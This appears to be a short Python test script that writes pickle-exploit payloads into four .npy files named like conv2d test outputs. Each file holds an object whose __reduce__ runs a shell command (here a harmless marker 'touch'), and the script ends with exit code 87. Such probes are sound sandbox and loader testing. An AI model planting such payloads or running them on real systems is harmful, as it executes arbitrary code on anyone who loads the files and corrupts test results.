import os
from pathlib import Path

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-mark-pickle",)


for case in ("grey", "rectangle", "colour", "two_channels"):
    np.save(Path("/box/out", f"conv2d.{case}.npy"), np.array([Payload()], dtype=object), allow_pickle=True)
print("written", flush=True)
os._exit(87)
